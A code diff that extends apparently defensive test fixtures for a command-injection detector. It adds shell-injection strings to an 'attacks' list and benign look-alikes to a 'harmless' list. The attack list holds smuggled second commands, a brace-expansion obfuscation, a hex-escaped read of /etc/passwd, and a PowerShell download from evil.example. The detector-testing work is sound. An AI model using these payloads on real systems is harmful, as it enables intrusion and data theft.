@@ -144,6 +144,13 @@ export const attacks: readonly string[] = [
   ';powershell iwr evil.example -o x',
   "8.8.8.8;$'cat\\x20/etc/passwd'",
   'ls /',
+  '$(<flag.txt)',
+  '8.8.8.8;{cat,flag}',
+  '8.8.8.8;c${x}at x',
+  '&&echo hi',
+  '&echo hi',
+  ';man ls',
+  ';dotnet x',
 ]
 
 export const harmless: readonly string[] = [
@@ -285,6 +292,12 @@ export const harmless: readonly string[] = [
   'sc; query planner',
   'reg. add-ons; sc queries',
   "the cost is $5 or $'10",
+  '$(<div>)',
+  '$(<b>x</b>)',
+  '&copy that',
+  'color: {red,green}',
+  'a{b,c}',
+  '; clear skies tomorrow',
 ]
 
 /** What a hostile text repeats. */
